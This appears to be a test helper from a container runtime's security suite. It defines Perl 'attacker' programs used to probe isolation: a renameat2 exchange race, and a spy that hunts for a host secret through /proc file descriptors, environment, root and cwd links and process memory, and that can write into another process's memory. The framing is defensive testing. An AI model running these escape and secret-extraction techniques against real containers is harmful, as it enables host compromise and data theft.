/** Programs of the attacker. They are Perl, which can make any system call in a tight loop. */
import type { RuntimeConfig } from "../../../src/oci/runtime.ts";

/** The argument vector that runs a script, on the host or in a container of scene.ts's root. */
export function perl(script: string): string[] {
  return ["/usr/bin/perl", "-e", script];
}

/** Exchanges pairs of names in a directory for ever, with pauses of random length: renameat2(2), RENAME_EXCHANGE. */
const exchangeScript = `
  my ($seed, $directory, @pairs) = @ARGV;
  srand($seed);
  chdir($directory) or die;
  for (;;) {
    for (my $i = 0; $i < @pairs; $i += 2) { syscall(316, -100, $pairs[$i], -100, $pairs[$i + 1], 2); }
    for (my $spin = int(rand(200)); $spin > 0; $spin--) { }
  }
`;

export function exchange(seed: number, directory: string, pairs: readonly (readonly [string, string])[]): string[] {
  return [...perl(exchangeScript), String(seed), directory, ...pairs.flat()];
}

/**
 * Waits for processes to appear in its pid namespace and takes from each, as long as it can be had, what it is made of:
 * its program, its descriptors, its environment, its memory; and writes into its memory. Needs CAP_SYS_PTRACE. Every
 * find is a line on standard output: "exe PATH", "fd PATH", "secret WHERE", "wrote".
 */
const spyScript = `
  my ($wanted, $secretPath, $target, $mode) = @ARGV;
  $| = 1;
  my %seen;
  my $last = $$;
  print "ready\\n";
  sub found { my $line = join(" ", @_); print "$line\\n" unless $seen{$line}++; }
  sub search { my ($where, $text) = @_; found("secret", $where) if index($text, $wanted) >= 0; }
  sub slurp { my ($path) = @_; open(my $file, "<", $path) or return ""; local $/; my $text = <$file>; close($file); return defined $text ? $text : ""; }
  sub look {
    my ($pid) = @_;
    my $exe = readlink("/proc/$pid/exe");
    return 0 unless defined $exe;
    found("exe", $exe, $exe =~ /memfd/ ? $pid : ());
    my $own = $exe eq "/memfd:tsd-init (deleted)";
    if ($own && $mode eq "write" && open(my $memory, "+<", "/proc/$pid/mem")) {
      binmode($memory);
      sysseek($memory, 0x10000000, 0);
      if (my $length = sysread($memory, my $plan, 131072)) {
        my @words = unpack("q*", $plan);
        for (my $i = 0; $i < @words; $i++) {
          next unless $words[$i] > $target && $words[$i] < $target + 20000;
          sysseek($memory, 0x10000000 + 8 * $i, 0);
          syswrite($memory, pack("q", $target));
        }
        found("wrote", $pid);
      }
      return 1;
    }
    if (opendir(my $directory, "/proc/$pid/fd")) {
      for my $fd (readdir($directory)) {
        next if $fd =~ /^[.]/;
        my $path = readlink("/proc/$pid/fd/$fd");
        next unless defined $path;
        found("fd", $path) if $own;
        for my $way ("1/root$secretPath", "..$secretPath", "../..$secretPath", substr($secretPath, 1)) {
          search("fd $path/$way", slurp("/proc/$pid/fd/$fd/$way"));
        }
      }
    }
    search("root of $exe", slurp("/proc/$pid/root$secretPath"));
    search("cwd of $exe", slurp("/proc/$pid/cwd$secretPath"));
    search("environ of $exe", slurp("/proc/$pid/environ"));
    search("cmdline of $exe", slurp("/proc/$pid/cmdline"));
    if ($own && open(my $memory, "<", "/proc/$pid/mem")) {
      for my $line (split(/\\n/, slurp("/proc/$pid/maps"))) {
        my ($from, $to) = $line =~ /^([0-9a-f]+)-([0-9a-f]+) r/ or next;
        next if length($from) > 12;
        my $length = hex($to) - hex($from);
        sysseek($memory, hex($from), 0);
        sysread($memory, my $bytes, $length > 33554432 ? 33554432 : $length);
        search("memory $line", $bytes // "");
      }
    }
    return 1;
  }
  for (my $round = 0; ; $round++) {
    if ($round % 64 == 0 && slurp("/proc/loadavg") =~ / (\\d+)$/ && $1 > $last) { $last = $1 - 1; }
    for my $pid ($last + 1 .. $last + 4) {
      next unless -e "/proc/$pid";
      $last = $pid;
      while (look($pid)) { last if $mode eq "write"; }
      last;
    }
  }
`;

/**
 * @param wanted a text of the host's that must not be found; @param path where it is on the host.
 * @param target a pid of the host's: with the mode "write" it is written wherever the memory of a process has a number
 *   that can be the pid of a younger one.
 */
export function spy(wanted: string, path: string, mode: "read" | "write", target = 0): string[] {
  return [...perl(spyScript), wanted, path, String(target), mode];
}

/** Has the container share a directory of the host's with others. */
export function share(config: RuntimeConfig, source: string, destination: string): void {
  config.mounts!.push({ destination, source, type: "bind", options: ["rbind", "rw"] });
}
